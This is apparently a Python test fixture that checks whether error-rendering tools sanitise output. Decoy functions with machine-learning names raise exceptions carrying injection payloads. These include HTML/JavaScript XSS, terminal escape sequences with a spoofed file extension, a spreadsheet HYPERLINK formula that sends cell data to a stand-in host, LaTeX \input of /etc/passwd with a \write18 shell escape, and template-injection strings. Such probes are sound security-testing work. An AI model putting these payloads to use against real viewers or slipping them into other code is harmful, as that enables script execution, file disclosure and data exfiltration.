"""Raises messages that are pages, commands, formulas and paths, with types and files named alike.

Success: a page, a terminal, a spreadsheet or a type-setter obeys one of them.
"""

HTML = "</td><script>alert(1)</script><img src=x onerror=alert(1)><a href='javascript:alert(1)'>"
ANSI = "\x1b[2J\x1b]0;owned\x07\x1b]8;;file:///etc/passwd\x1b\\\x9b31m\r\b\b\u202egnp.exe\u2066"
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"open")'
MARKDOWN = "[click](javascript:alert(1)) ![x](http://example.org/x.png) | a | b |\n# big\n```"
LATEX = r"\input{/etc/passwd}\write18{id} $\def\x{\x\x}\x$"
TEMPLATE = "{{ 7 * 7 }}{% for x in y %}[bold red]rich[/][link=file:///etc/passwd]x[/link] %s {0.x}"


def similarity(x):
    raise type(HTML, (Exception,), {})(HTML + ANSI)


def self_attention(x):
    return type("<b>\x1b[31m@SUM(1)", (), {})()


def padding_mask(token_ids):
    source = "def f(text):\n    raise ValueError(text)\n"
    space: dict = {}
    exec(compile(source, "code cell <b>1</b>\x1b[31m../../x", "exec"), space)
    return space["f"](MARKDOWN + LATEX + TEMPLATE)


def causal_mask(length):
    raise type("=cmd", (Exception,), {})(FORMULA)
